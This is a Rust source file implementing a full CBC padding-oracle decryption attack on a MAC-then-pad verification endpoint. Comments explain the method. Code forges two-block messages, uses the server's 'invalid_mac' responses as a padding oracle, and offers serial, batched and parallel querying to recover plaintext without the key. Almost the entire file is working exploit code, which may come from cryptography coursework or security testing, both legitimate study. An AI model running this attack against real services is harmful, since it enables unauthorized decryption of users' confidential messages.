// CBC padding-oracle decryption against a MAC-then-pad verification
// endpoint.
//
// The formula for CBC decryption is
//
//                 P_i = D(C_i) ⊕ C_{i-1}.
//
// Submit a two-block message F|T, where T is a real ciphertext block and
// F a block we control, and the server decrypts the final block as
//
//                 P' = D(T) ⊕ F.
//
// D(T) is fixed, so by varying F we choose what the server sees. Call
// D(T) the intermediate state I. If the last byte of P' is 0x01, the
// padding parses and the server moves on to its MAC check; that check is
// doomed (the rest of the message is garbage to it), so it answers
// "invalid_mac". A candidate with broken padding never reaches the MAC
// check. "invalid_mac" therefore tells us the padding was well formed,
// and for the guess x that triggers it:
//
//                 I[15] = x ⊕ 0x01.
//
// For byte 14 we forge F[15] = I[15] ⊕ 0x02 so the last byte decrypts to
// 0x02, and search F[14] for the x making the padding \x02\x02. Repeating
// up the block recovers all of I, and
//
//                 P = I ⊕ C_{i-1}
//
// gives the true plaintext with no key material at all. Block 0 acts as
// the IV for the rest of the message, so its plaintext is never
// recovered.
//
// A caveat of the naive search: at padding length 1 a guess can validate
// because the tail coincidentally forms a longer padding (e.g. the real
// second-to-last byte is 0x02). The first "invalid_mac" in guess order
// wins regardless; the ambiguity is a property of the algorithm and is
// kept for parity with the reference behavior.
use crate::padding::strip_padding;
use crate::{AttackError, Oracle, OracleStatus};

use futures::future::try_join_all;

pub const BLOCK_SIZE: usize = 16;

/// How candidate guesses are put on the wire.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Strategy {
    /// One oracle round-trip per guess; up to 256 per byte, ~4096 per
    /// block. Small requests, low oracle load.
    Serial,
    /// All 256 guesses for a byte in one request; exactly 16 round-trips
    /// per block at the cost of 256x larger payloads.
    Batched,
}

/// What to do when the initial sanity probe of the unmodified ciphertext
/// does not come back "valid".
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InitialCheckPolicy {
    /// Warn ("Message invalid") and attack anyway. Reference behavior;
    /// the output is meaningless if the ciphertext truly is bogus.
    WarnAndContinue,
    /// Give up with [`AttackError::InvalidMessage`].
    Abort,
}

#[derive(Debug, Clone)]
pub struct AttackConfig {
    pub strategy: Strategy,
    /// Width of the authentication tag appended to the plaintext, removed
    /// after the padding. Protocol-dependent; 32 matches an HMAC-SHA256
    /// tag.
    pub tag_len: usize,
    pub initial_check: InitialCheckPolicy,
    /// Recover blocks concurrently. Blocks are independent given the
    /// ciphertext; output order is unaffected.
    pub parallel_blocks: bool,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            strategy: Strategy::Batched,
            tag_len: 32,
            initial_check: InitialCheckPolicy::WarnAndContinue,
            parallel_blocks: false,
        }
    }
}

/// Recover the plaintext of `ciphertext` (block 0 excluded, padding and
/// authentication tag stripped) using only the oracle's verdicts.
pub async fn recover_message<O: Oracle>(
    oracle: &O,
    ciphertext: &[u8],
    config: &AttackConfig,
) -> Result<Vec<u8>, AttackError> {
    check_length(ciphertext)?;
    let probe = oracle.query(&[ciphertext.to_vec()]).await?;
    if probe.first() != Some(&OracleStatus::Valid) {
        let status = probe.first().map_or("<none>", |s| s.wire()).to_string();
        match config.initial_check {
            // The literal line the wire protocol's callers look for, so it
            // goes to stderr directly rather than through the log format.
            InitialCheckPolicy::WarnAndContinue => eprintln!("Message invalid"),
            InitialCheckPolicy::Abort => return Err(AttackError::InvalidMessage(status)),
        }
    }

    let mut plaintext = decrypt_blocks(oracle, ciphertext, config).await?;
    strip_padding(&mut plaintext)?;
    if plaintext.len() < config.tag_len {
        return Err(AttackError::TagLength(config.tag_len));
    }
    plaintext.truncate(plaintext.len() - config.tag_len);
    Ok(plaintext)
}

/// Recover the raw decryption of every block after block 0, padding and
/// tag included. A single-block ciphertext recovers nothing.
pub async fn decrypt_blocks<O: Oracle>(
    oracle: &O,
    ciphertext: &[u8],
    config: &AttackConfig,
) -> Result<Vec<u8>, AttackError> {
    check_length(ciphertext)?;
    let blocks: Vec<&[u8]> = ciphertext.chunks(BLOCK_SIZE).collect();

    if config.parallel_blocks {
        let recovered = try_join_all(
            (1..blocks.len())
                .map(|i| recover_block(oracle, blocks[i - 1], blocks[i], i, config.strategy)),
        )
        .await?;
        return Ok(recovered.concat());
    }

    let mut plaintext = Vec::with_capacity(ciphertext.len().saturating_sub(BLOCK_SIZE));
    for i in 1..blocks.len() {
        let block = recover_block(oracle, blocks[i - 1], blocks[i], i, config.strategy).await?;
        plaintext.extend_from_slice(&block);
    }
    Ok(plaintext)
}

fn check_length(ciphertext: &[u8]) -> Result<(), AttackError> {
    if ciphertext.is_empty() || ciphertext.len() % BLOCK_SIZE != 0 {
        return Err(AttackError::CiphertextLength(ciphertext.len()));
    }
    Ok(())
}

async fn recover_block<O: Oracle>(
    oracle: &O,
    prev: &[u8],
    target: &[u8],
    block_idx: usize,
    strategy: Strategy,
) -> Result<Vec<u8>, AttackError> {
    let mut intermediate = [0u8; BLOCK_SIZE];
    for pad_len in 1..=BLOCK_SIZE {
        let guess = match strategy {
            Strategy::Serial => serial_guess(oracle, &intermediate, target, pad_len).await?,
            Strategy::Batched => batched_guess(oracle, &intermediate, target, pad_len).await?,
        };
        match guess {
            Some(guess) => intermediate[BLOCK_SIZE - pad_len] = guess ^ pad_len as u8,
            None => {
                return Err(AttackError::ByteNotFound {
                    block: block_idx,
                    index: BLOCK_SIZE - pad_len,
                })
            }
        }
    }
    Ok(intermediate.iter().zip(prev).map(|(i, p)| i ^ p).collect())
}

/// Build the two-block wire message F|T for one guess: the byte under
/// attack carries the guess, every already-solved byte below it is forged
/// to decrypt to the current padding value, and bytes not yet attacked
/// stay zero (they sit above the padding, so the check never reads them).
fn forge_message(
    intermediate: &[u8; BLOCK_SIZE],
    target: &[u8],
    pad_len: usize,
    guess: u8,
) -> Vec<u8> {
    let mut fake = [0u8; BLOCK_SIZE];
    fake[BLOCK_SIZE - pad_len] = guess;
    for back in 1..pad_len {
        fake[BLOCK_SIZE - back] = intermediate[BLOCK_SIZE - back] ^ pad_len as u8;
    }
    [&fake, target].concat()
}

async fn serial_guess<O: Oracle>(
    oracle: &O,
    intermediate: &[u8; BLOCK_SIZE],
    target: &[u8],
    pad_len: usize,
) -> Result<Option<u8>, AttackError> {
    for guess in 0..=255u8 {
        let message = forge_message(intermediate, target, pad_len, guess);
        let statuses = oracle.query(&[message]).await?;
        if statuses.first() == Some(&OracleStatus::InvalidMac) {
            return Ok(Some(guess));
        }
    }
    Ok(None)
}

async fn batched_guess<O: Oracle>(
    oracle: &O,
    intermediate: &[u8; BLOCK_SIZE],
    target: &[u8],
    pad_len: usize,
) -> Result<Option<u8>, AttackError> {
    let candidates: Vec<Vec<u8>> = (0..=255u8)
        .map(|guess| forge_message(intermediate, target, pad_len, guess))
        .collect();
    let statuses = oracle.query(&candidates).await?;
    Ok(statuses
        .iter()
        .position(|s| *s == OracleStatus::InvalidMac)
        .map(|found| found as u8))
}
